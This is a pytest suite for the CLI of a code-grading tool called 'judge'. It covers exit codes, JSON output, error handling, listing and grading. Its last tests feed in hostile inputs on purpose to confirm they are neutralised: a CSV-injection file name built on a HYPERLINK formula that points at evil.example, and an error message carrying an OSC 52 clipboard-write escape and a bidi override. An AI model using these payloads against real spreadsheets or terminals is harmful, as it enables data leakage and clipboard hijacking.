"""The `judge` command as users and scripts see it: exit codes, a pure `--json`
stdout, one-line errors without tracebacks, `list` and `show`.

These run the real command in a subprocess (exit codes and stdout purity are
process-level promises). Assertions are on JSON and key phrases, never on the
layout of the human-readable output.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from problemsets import copy_problems

REPO = Path(__file__).resolve().parents[2]
ACCEPTED = "submissions/patchify/accepted/reshape_permute.py"
WRONG = "submissions/patchify/wrong_answer/column_major.py"
CRASHES = "submissions/patchify/run_time_error/typo_in_name.py"
VERDICTS = {"accepted", "wrong_answer", "runtime_error", "time_limit_exceeded", "memory_limit_exceeded",
            "output_limit_exceeded", "compile_error", "security_violation", "judge_error"}


def judge(*args: str, cwd: Path = REPO, env: dict | None = None) -> subprocess.CompletedProcess:
    """Run `judge ARGS` with this interpreter; JUDGE_HOME etc. come from conftest's session env."""
    environment = {**os.environ, "NO_COLOR": "1"}
    environment.pop("JUDGE_PROBLEMS_DIR", None)  # only the problem set a test names
    environment.update(env or {})
    return subprocess.run([sys.executable, "-c", "from judge.cli.commands import main; main()", *args], cwd=cwd,
                          env=environment, capture_output=True, text=True, timeout=180)


def assert_one_line_error(result: subprocess.CompletedProcess, *phrases: str) -> None:
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    for phrase in phrases:
        assert phrase in lines[0], lines[0]


@pytest.fixture
def problem_set(tmp_path: Path) -> Path:
    """A private copy of the patchify problem set (public, hidden, one known submission)."""
    copy_problems(tmp_path, "patchify")
    target = tmp_path / ACCEPTED
    target.parent.mkdir(parents=True)
    shutil.copy(REPO / ACCEPTED, target)
    return tmp_path


# ---------------------------------------------------------------- judge run --json

def _check_report(report: dict, submission: str) -> None:
    assert set(report) >= {"problem", "submission", "verdict", "passed", "total", "time_ms", "tests"}
    assert report["problem"] == "patchify"
    assert report["submission"] == submission  # the path as given
    assert report["verdict"] in VERDICTS
    assert isinstance(report["time_ms"], (int, float)) and report["time_ms"] >= 0
    assert report["total"] == len(report["tests"]) > 0
    assert report["passed"] == sum(t["verdict"] == "accepted" for t in report["tests"])
    for test in report["tests"]:
        assert set(test) >= {"name", "group", "verdict", "message", "time_ms"}
        assert test["group"] in ("example", "hidden", "check")
        assert test["verdict"] in VERDICTS
        assert isinstance(test["message"], str)
    failing = [t for t in report["tests"] if t["verdict"] != "accepted"]
    assert report["verdict"] == (failing[0]["verdict"] if failing else "accepted")


def test_run_json_accepted() -> None:
    result = judge("run", "patchify", ACCEPTED, "--json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)  # exactly one JSON document, nothing else on stdout
    _check_report(report, ACCEPTED)
    assert report["verdict"] == "accepted" and report["passed"] == report["total"]
    groups = {t["group"] for t in report["tests"]}
    assert groups == {"example", "hidden", "check"}
    assert "worked_example_96px" in {t["name"] for t in report["tests"]}


def test_run_json_wrong_answer_names_the_mistake() -> None:
    result = judge("run", "patchify", WRONG, "--json")
    assert result.returncode == 1, result.stderr
    report = json.loads(result.stdout)
    _check_report(report, WRONG)
    assert report["verdict"] == "wrong_answer" and report["passed"] < report["total"]
    first = next(t for t in report["tests"] if t["verdict"] != "accepted")
    assert "column-major" in first["message"]


def test_run_json_stdout_stays_pure_when_the_submission_prints(tmp_path: Path) -> None:
    noisy = tmp_path / "noisy.py"
    noisy.write_text(
        "import sys\nprint('{\"verdict\": \"accepted\"}')\nprint('to stderr', file=sys.stderr)\n"
        + (REPO / ACCEPTED).read_text().replace(
            "    b, c, h, w = images.shape\n", "    b, c, h, w = images.shape\n    print('debug', b, c, h, w)\n"))
    result = judge("run", "patchify", str(noisy), "--json")
    assert result.returncode == 0, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["verdict"] == "accepted"
    # What it printed is data inside the report (each test's "output"), never a line of stdout of its own.
    assert not any(line.startswith(("debug", "to stderr", '{"verdict"')) for line in result.stdout.splitlines())
    assert "debug 4 3 96 96" in "".join(t["output"] for t in report["tests"])


def test_run_exit_code_1_for_a_runtime_error() -> None:
    result = judge("run", "patchify", CRASHES, "--json")
    assert result.returncode == 1
    report = json.loads(result.stdout)
    assert report["verdict"] == "runtime_error"
    first = next(t for t in report["tests"] if t["verdict"] != "accepted")
    assert "NameError" in first["message"] and "coordinate" in first["message"]


# ---------------------------------------------------------------- judge run, human output

def test_run_human_output_accepted() -> None:
    result = judge("run", "patchify", ACCEPTED)
    assert result.returncode == 0, result.stderr
    assert "accepted" in result.stdout
    for name in ("tiny_index_image", "vit_224", "batch_independence"):
        assert name in result.stdout


def test_run_human_output_wrong_answer_verbose() -> None:
    result = judge("run", "patchify", WRONG, "-v")
    assert result.returncode == 1
    assert "wrong_answer" in result.stdout or "wrong answer" in result.stdout.lower()
    assert "column-major" in result.stdout


# ---------------------------------------------------------------- bad input: exit 2, one line, no traceback

def test_unknown_problem_id() -> None:
    assert_one_line_error(judge("run", "patchifyy", ACCEPTED), "unknown problem id 'patchifyy'", "patchify")


def test_missing_submission_file() -> None:
    assert_one_line_error(judge("run", "patchify", "no/such/file.py"), "no/such/file.py", "not found")


def test_a_file_that_is_not_text_is_judged_a_compile_error_not_a_usage_error(tmp_path: Path) -> None:
    """Python cannot compile it either; `judge grade` gives the same verdict and message (test_batch)."""
    latin1 = tmp_path / "latin1.py"
    latin1.write_bytes(b"# caf\xe9\ndef patchify(a, b, c):\n    return 1\n")
    result = judge("run", "patchify", str(latin1), "--json", env={"JUDGE_NO_RECORD": "1"})
    assert result.returncode == 1, result.stderr
    report = json.loads(result.stdout)
    assert report["verdict"] == "compile_error" and report["passed"] == 0
    assert report["tests"][0]["message"].startswith("not utf-8 text (byte 5): save it as UTF-8")
    assert all(test["not_run"] for test in report["tests"][1:])


def test_a_pipe_or_a_broken_link_is_one_line_and_nothing_waits(tmp_path: Path) -> None:
    """A FIFO named like a file is refused before it is opened: reading it would wait for a writer forever."""
    os.mkfifo(tmp_path / "pipe.py")
    (tmp_path / "dangling.py").symlink_to(tmp_path / "gone.py")
    assert_one_line_error(judge("run", "patchify", str(tmp_path / "pipe.py")), "pipe.py", "not a regular file")
    assert_one_line_error(judge("run", "patchify", str(tmp_path / "dangling.py")), "dangling.py",
                          "broken symbolic link")


def test_directory_instead_of_a_file() -> None:
    assert_one_line_error(judge("run", "patchify", "submissions/patchify/accepted"),
                          "submissions/patchify/accepted", "directory")


def test_invalid_yaml_in_a_problem_set(problem_set: Path) -> None:
    public = problem_set / "problems" / "patchify.yaml"
    public.write_text(public.read_text().replace("difficulty: easy\n", "difficulty: [easy\n"))
    result = judge("--problems-dir", str(problem_set), "run", "patchify", str(problem_set / ACCEPTED))
    assert_one_line_error(result, "patchify.yaml:", "invalid YAML")
    assert re.search(r"patchify\.yaml:\d+: ", result.stderr)


def test_schema_error_in_a_problem_set_names_file_line_and_field(problem_set: Path) -> None:
    hidden = problem_set / "hidden_tests" / "patchify" / "tests.yaml"
    hidden.write_text(hidden.read_text().replace("{images: {normal: [2, 3, 32, 48]}",
                                                 "{images: {gaussian: [2, 3, 32, 48]}"))
    result = judge("run", "patchify", str(problem_set / ACCEPTED), env={"JUDGE_PROBLEMS_DIR": str(problem_set)})
    assert_one_line_error(result, "tests.yaml:", "tests[1].inputs.images: ", "gaussian")


def test_several_schema_errors_are_all_reported(problem_set: Path) -> None:
    public = problem_set / "problems" / "patchify.yaml"
    public.write_text(public.read_text().replace("difficulty: easy\n", "difficulty: trivial\n")
                      .replace("framework: torch\n", "framework: jax\n"))
    result = judge("--problems-dir", str(problem_set), "run", "patchify", str(problem_set / ACCEPTED))
    assert result.returncode == 2 and result.stdout == "" and "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 2
    assert any("difficulty: " in line for line in lines) and any("framework: " in line for line in lines)


def test_reference_that_raises(problem_set: Path) -> None:
    reference = problem_set / "hidden_tests" / "patchify" / "reference.py"
    reference.write_text(reference.read_text().replace(
        "    rows, cols = height // patch_height, width // patch_width\n",
        "    rows, cols = height // patch_height, width // patch_width\n"
        "    if batch > 1:\n        raise RuntimeError('the reference is broken')\n"))
    result = judge("--problems-dir", str(problem_set), "run", "patchify", str(problem_set / ACCEPTED), "--json")
    assert_one_line_error(result, "reference.py", "the reference is broken")


def test_missing_problems_dir(tmp_path: Path) -> None:
    result = judge("--problems-dir", str(tmp_path / "nowhere"), "run", "patchify", ACCEPTED)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


# ---------------------------------------------------------------- list and show

def _problem_ids() -> list[str]:
    return sorted(p.stem for p in (REPO / "problems").glob("*.yaml"))


def test_list_json() -> None:
    result = judge("list", "--json")
    assert result.returncode == 0, result.stderr
    items = json.loads(result.stdout)
    assert isinstance(items, list)
    assert sorted(item["id"] for item in items) == _problem_ids()
    patchify = next(item for item in items if item["id"] == "patchify")
    assert patchify["title"] == "Patchify a Batch of Images"
    assert patchify["difficulty"] in ("easy", "medium", "hard")
    assert "vit" in patchify["tags"]


def test_list_human() -> None:
    result = judge("list")
    assert result.returncode == 0, result.stderr
    for problem_id in _problem_ids():
        assert problem_id in result.stdout
    assert "Patchify a Batch of Images" in result.stdout


def _numbers(text: str) -> list[float]:
    return [float(n) for n in re.findall(r"-?\d+(?:\.\d*)?(?:e[-+]?\d+)?", text)]


def test_show_statement_and_example_outputs() -> None:
    result = judge("show", "patchify")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "Patchify a Batch of Images" in out
    assert "row-major" in out and "ValueError" in out  # the statement's rules
    assert "def patchify(images: torch.Tensor, patch_height: int, patch_width: int) -> dict" in out
    for name in ("tiny_index_image", "worked_example_96px", "rectangular_patches"):
        assert name in out
    # The reference's output on the 4x4 index image, token by token: not in the YAML, computed.
    tiny = out[out.index("tiny_index_image"):out.index("worked_example_96px")]
    expected_tokens = [0, 1, 4, 5, 2, 3, 6, 7, 8, 9, 12, 13, 10, 11, 14, 15]
    numbers = _numbers(tiny)
    assert any(numbers[i:i + 16] == expected_tokens for i in range(len(numbers))), tiny
    assert "(36, 2)" in out and "(4, 36, 768)" in out
    assert "(1, 4, 12)" in out  # rectangular_patches' tokens, only known by running the reference


def test_show_unknown_problem() -> None:
    assert_one_line_error(judge("show", "nope"), "unknown problem id 'nope'")


# ---------------------------------------------------------------- the learner's loop

def test_run_on_my_own_input_shows_mine_beside_the_reference(tmp_path: Path) -> None:
    mine = tmp_path / "my_case.yaml"
    mine.write_text("images: {arange: [1, 1, 4, 6]}\npatch_height: 2\npatch_width: 3\n")
    result = judge("run", "patchify", WRONG, "--input", str(mine))
    assert result.returncode == 1
    assert "my_case" in result.stdout and "output (yours vs expected):" in result.stdout
    assert "patch_width = 3" in result.stdout
    right = judge("run", "patchify", ACCEPTED, "--input", str(mine))
    assert right.returncode == 0 and "1/1 tests passed" in right.stdout
    mine.write_text("images: {arange: [1, 1, 4, 6]}\npatch_height: 2\n")
    missing = judge("run", "patchify", ACCEPTED, "--input", str(mine))
    assert_one_line_error(missing, "my_case.yaml", "patch_width", "missing")


def test_my_own_input_may_be_plain_yaml_lists(tmp_path: Path) -> None:
    mine = tmp_path / "my_case.yaml"
    mine.write_text("images: [[[[0, 1, 2, 3], [4, 5, 6, 7], [8, 9, 10, 11], [12, 13, 14, 15]]]]\n"
                    "patch_height: 2\npatch_width: 2\n")
    right = judge("run", "patchify", ACCEPTED, "--input", str(mine))
    assert right.returncode == 0 and "1/1 tests passed" in right.stdout, right.stdout + right.stderr
    assert "Traceback" not in right.stderr and "[[[[ 0,  1,  2,  3]," in right.stdout
    wrong = judge("run", "patchify", WRONG, "--input", str(mine))
    assert wrong.returncode == 1 and "output (yours vs expected):" in wrong.stdout


def test_an_input_on_which_the_reference_raises_expects_yours_to_raise(tmp_path: Path) -> None:
    mine = tmp_path / "my_case5.yaml"
    mine.write_text("images: [[[0, 1, 2, 3], [4, 5, 6, 7]]]\npatch_height: 2\npatch_width: 2\n")  # 3-D
    lenient = tmp_path / "lenient.py"
    lenient.write_text("def patchify(images, patch_height, patch_width):\n"
                       "    return {'tokens': images, 'coordinates': images}\n")
    result = judge("run", "patchify", str(lenient), "--input", str(mine))
    assert result.returncode == 1 and "the reference fails" not in result.stdout + result.stderr
    assert "expected: raises ValueError (images must be a 4-D tensor" in result.stdout
    assert "yours: returned a value" in result.stdout
    strict = judge("run", "patchify", ACCEPTED, "--input", str(mine))   # raises the same: accepted
    assert strict.returncode == 0 and "1/1 tests passed" in strict.stdout, strict.stdout + strict.stderr


def test_color_option_and_force_color() -> None:
    ansi = re.compile(r"\x1b\[[0-9;]*m")
    assert ansi.search(judge("run", "patchify", ACCEPTED, "--color", "always").stdout)
    assert not ansi.search(judge("run", "patchify", ACCEPTED, "--color", "never",
                                 env={"FORCE_COLOR": "1"}).stdout)
    forced = judge("run", "patchify", ACCEPTED, env={"FORCE_COLOR": "1", "NO_COLOR": ""})
    assert ansi.search(forced.stdout)


def test_a_wrong_run_fits_on_a_screen_and_verbose_shows_everything() -> None:
    short = judge("run", "patchify", "submissions/patchify/wrong_answer/swapped_height_width.py")
    full = judge("run", "patchify", "submissions/patchify/wrong_answer/swapped_height_width.py", "-v")
    assert short.returncode == full.returncode == 1
    assert len(short.stdout.splitlines()) <= 60, short.stdout
    assert "-v shows every message" in short.stdout
    assert len(full.stdout.splitlines()) > len(short.stdout.splitlines())
    assert all(len(line) <= 100 for line in short.stdout.splitlines()), short.stdout


def test_list_has_a_header_and_fits_in_100_columns() -> None:
    lines = judge("list").stdout.splitlines()
    assert lines[0].split()[:3] == ["status", "problem", "title"]
    assert all(len(line) <= 100 for line in lines)


def test_one_broken_problem_does_not_hide_the_others(problem_set: Path) -> None:
    shutil.copy(REPO / "problems" / "pos_embed.yaml", problem_set / "problems")
    (problem_set / "problems" / "pos_embed.yaml").write_text("id: pos_embed\ntitle: [unclosed\n")
    result = judge("--problems-dir", str(problem_set), "list")
    assert result.returncode == 0
    assert "patchify" in result.stdout and "pos_embed" not in result.stdout
    assert "warning: pos_embed is not listed:" in result.stderr and "pos_embed.yaml" in result.stderr


def test_a_progress_database_with_the_wrong_schema_warns_in_list_and_history(tmp_path: Path) -> None:
    import sqlite3

    home = tmp_path / "home"
    home.mkdir()
    db = sqlite3.connect(home / "progress.sqlite3")
    db.executescript("CREATE TABLE attempts (x TEXT); PRAGMA user_version = 3;")
    db.close()
    for args in (("list",), ("history",)):
        result = judge(*args, env={"JUDGE_HOME": str(home)})
        assert result.returncode == 0, result.stderr
        assert result.stderr.startswith("warning: progress database") and "Traceback" not in result.stderr


# ---------------------------------------------------------------- hostile text

HOSTILE_RAISE = ("def patchify(images, patch_height, patch_width):\n"
                 "    raise ValueError('\\ud800 \\u202eKO \\x1b]52;c;SGVsbG8=\\x07 \\x9b2K hostile')\n")
HIDDEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}   # what judge.base.escape makes visible


def _raw_hidden(text: str) -> set[str]:
    """Hidden characters (controls, bidi and other format characters, surrogates) other than newlines."""
    import unicodedata

    return {c for c in text if c != "\n" and unicodedata.category(c) in HIDDEN}


def _judge_bytes(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    """`python -m judge ARGS` with its output as bytes, so invalid UTF-8 fails the test rather than hides."""
    environment = {**os.environ, "NO_COLOR": "1", "JUDGE_NO_WARM": "1", **env}
    environment.pop("JUDGE_PROBLEMS_DIR", None)
    return subprocess.run([sys.executable, "-m", "judge", *args], cwd=REPO, env=environment, capture_output=True,
                          timeout=180)


def test_a_lone_surrogate_bidi_and_osc_in_a_message_and_a_name_that_is_not_utf8(tmp_path: Path) -> None:
    """`judge run` on a file named with bytes that are not UTF-8, raising a message with a lone surrogate,
    a right-to-left override and an OSC 52 clipboard write: a text report, a valid UTF-8 JSON report,
    everything visible as escapes, and the run recorded under its name as shown."""
    path = Path(os.fsdecode(bytes(tmp_path) + b"/hostile\xff.py"))
    path.write_text(HOSTILE_RAISE)
    env = {"JUDGE_HOME": str(tmp_path / "home"), "JUDGE_CACHE_DIR": str(tmp_path / "cache")}
    text = _judge_bytes("run", "patchify", str(path), "-v", env=env)
    assert text.returncode == 1, text.stderr.decode(errors="replace")
    stdout = text.stdout.decode("utf-8")  # strict: it is UTF-8
    assert not _raw_hidden(stdout + text.stderr.decode("utf-8")), _raw_hidden(stdout)
    assert "\\ud800 \\u202eKO \\x1b]52;c;SGVsbG8=\\x07 \\x9b2K hostile" in stdout
    assert 'File "hostile\\xff.py"' in stdout  # the traceback names the file as every face does

    result = _judge_bytes("run", "patchify", str(path), "--json", env={**env, "JUDGE_NO_RECORD": "1"})
    assert result.returncode == 1
    report = json.loads(result.stdout.decode("utf-8"))
    _check_report(report, str(tmp_path / "hostile\\xff.py"))
    first = next(t for t in report["tests"] if t["verdict"] != "accepted")
    assert first["verdict"] == "runtime_error"
    assert "\\ud800 \\u202eKO \\x1b]52;c;SGVsbG8=\\x07 \\x9b2K hostile" in first["message"]
    assert not _raw_hidden(json.dumps(report, ensure_ascii=False))

    history = _judge_bytes("history", env=env)
    assert history.returncode == 0 and "hostile\\xff.py" in history.stdout.decode("utf-8"), history.stderr


# ---------------------------------------------------------------- judge grade: what an instructor's CSV holds

FORMULA_NAME = '=HYPERLINK("evil.example?"&A1,"grade").py'   # no slash: a real file name


def test_grade_writes_no_formula_and_grades_the_class_around_files_it_cannot_read(tmp_path: Path) -> None:
    """A file named as a formula is a quoted cell; a broken link and a FIFO are one-line judge_error rows (not
    judged: exit 1), undecodable bytes a compile error, and every other file is graded."""
    import csv

    directory = tmp_path / "class"
    directory.mkdir()
    shutil.copy(REPO / ACCEPTED, directory / "accepted.py")
    shutil.copy(REPO / ACCEPTED, directory / FORMULA_NAME)
    (directory / "latin1.py").write_bytes(b"# caf\xe9\ndef patchify(a, b, c):\n    return 1\n")
    (directory / "dangling.py").symlink_to(directory / "handed_in_elsewhere.py")
    os.mkfifo(directory / "pipe.py")
    out = tmp_path / "grades.csv"
    result = judge("grade", "patchify", str(directory), "--workers", "2", "--csv", str(out),
                   env={"JUDGE_NO_RECORD": "1"})
    assert result.returncode == 1, (result.stdout, result.stderr)   # two files were not judged
    assert "Traceback" not in result.stderr
    with out.open(newline="", encoding="utf-8") as handle:
        rows = {r["file"]: r for r in csv.DictReader(handle)}
    assert {name: r["verdict"] for name, r in rows.items()} == {
        "'" + FORMULA_NAME: "accepted", "accepted.py": "accepted", "dangling.py": "judge_error",
        "latin1.py": "compile_error", "pipe.py": "judge_error"}
    assert rows["dangling.py"]["message"] == "not judged: a broken symbolic link: what it names is gone"
    assert rows["pipe.py"]["message"].startswith("not judged: not a regular file")
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    table = result.stdout.splitlines()
    assert len(table) == 1 + 5 + 1 and "5 submissions" in table[-1]
    assert any(line.startswith("dangling.py") and "not judged: a broken symbolic link" in line for line in table)
    plain = json.loads(judge("grade", "patchify", str(directory), "--json", env={"JUDGE_NO_RECORD": "1"}).stdout)
    assert plain["counts"] == {"accepted": 2, "compile_error": 1, "judge_error": 2}
    assert FORMULA_NAME in {r["file"] for r in plain["rows"]}   # JSON is no spreadsheet: the name as it is
